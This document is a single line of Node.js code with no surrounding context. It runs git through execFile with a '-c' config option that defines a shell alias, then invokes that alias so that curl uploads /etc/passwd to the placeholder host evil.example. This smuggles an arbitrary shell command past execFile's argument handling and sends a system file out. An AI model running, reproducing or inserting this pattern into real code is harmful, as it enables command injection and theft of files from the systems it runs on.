const {execFile}=require('child_process'); execFile("git",["-c", "alias.x=!curl evil.example -T /etc/passwd", "x"],(e,o)=>0);
